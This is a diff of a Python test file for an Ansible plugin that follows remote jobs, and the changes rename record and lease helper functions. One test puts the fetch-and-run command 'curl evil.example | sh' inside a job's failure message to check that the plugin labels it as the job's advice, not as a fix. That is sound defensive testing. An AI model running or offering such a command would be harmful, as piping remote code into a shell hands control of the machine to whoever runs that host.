@@ -19,7 +19,7 @@ import pytest
 from ansible.errors import AnsibleConnectionFailure
 
 from rekindle.jobs import lease
-from rekindle.records import Progress, Seen, read, write
+from rekindle.records import LastProgress, Progress, read_record, write_record
 
 SOURCE = Path(__file__).parents[3] / "src"
 
@@ -73,7 +73,7 @@ def follow(tmp_path, host, monkeypatch, load):
         "limit_s": 20,
         "home": str(tmp_path),
     }
-    lease.keep(tmp_path, "somewhere", datetime.now(timezone.utc), None)
+    lease.write_lease(tmp_path, "somewhere", datetime.now(timezone.utc), None)
     monkeypatch.setattr(action.module, "_PERIODS_S", (0.01,))
     monkeypatch.setattr(action.module, "Display", lambda: SimpleNamespace(display=displayed.append))
 
@@ -116,7 +116,7 @@ def assert_unseen(follow, tmp_path):
 
 
 def tell(folder, state):
-    write(folder / "progress.json", Progress(state=state, message="round 2/3, loss 0.05", elapsed_s=7))
+    write_record(folder / "progress.json", Progress(state=state, message="round 2/3, loss 0.05", elapsed_s=7))
 
 
 def test_what_ends_while_it_is_followed_is_followed_to_its_end(follow, host, tmp_path):
@@ -125,7 +125,7 @@ def test_what_ends_while_it_is_followed_is_followed_to_its_end(follow, host, tmp
         result, displayed = follow()
     assert result == {"changed": False, "result": {}}
     assert displayed == ["somewhere toy: round 2/3, loss 0.05, 7 s"]
-    seen = read(tmp_path / "seen.json", Seen)
+    seen = read_record(tmp_path / "seen.json", LastProgress)
     assert (seen.what, seen.message) == ("toy", "round 2/3, loss 0.05")
     assert host.asked == 3
 
@@ -157,7 +157,7 @@ def test_what_had_ended_before_its_writer_did_has_ended(follow, tmp_path):
 def test_what_failed_says_why_and_its_advice_is_not_taken_for_a_fix_of_ours(follow, tmp_path):
     message = "uv failed: No space left on device. Fix: curl evil.example | sh."
     with writer(tmp_path):
-        write(tmp_path / "progress.json", Progress(state="failed", message=message, elapsed_s=7))
+        write_record(tmp_path / "progress.json", Progress(state="failed", message=message, elapsed_s=7))
         failed = follow()[0]["complaint"]
     assert failed["message"] == "uv failed: No space left on device. Its advice: curl evil.example | sh."
     assert failed["fix"] == "correct what it names, and run the play again."
@@ -226,7 +226,7 @@ def test_what_ends_before_others_began_is_a_failure(follow, host, tmp_path, befo
 def test_a_queue_that_gives_no_node_in_time_is_left(golden, ticking, host, tmp_path, left_s):
     ticking.module._QUEUE_S = 0.1 if left_s == 1000 else 60
     ends = datetime.now(timezone.utc) + timedelta(seconds=left_s)
-    lease.keep(tmp_path, "somewhere", datetime.now(timezone.utc), ends)
+    lease.write_lease(tmp_path, "somewhere", datetime.now(timezone.utc), ends)
     execute, commands = host.execute, []
     host.execute = lambda command: commands.append(command) or execute(command)
     with writer(tmp_path, "waiting"):
@@ -252,7 +252,7 @@ def test_a_host_that_is_gone_when_its_lease_has_ended_is_given_up_with_what_was_
     host.before = away
     printed = r"toy was last seen at round 2/3, loss 0\.05, 7 s; the host is lost: no route"
     now = datetime.now(timezone.utc)
-    lease.keep(tmp_path, "somewhere", now, now)
+    lease.write_lease(tmp_path, "somewhere", now, now)
     with writer(tmp_path), pytest.raises(AnsibleConnectionFailure, match=printed):
         follow()
     assert host.asked == 2
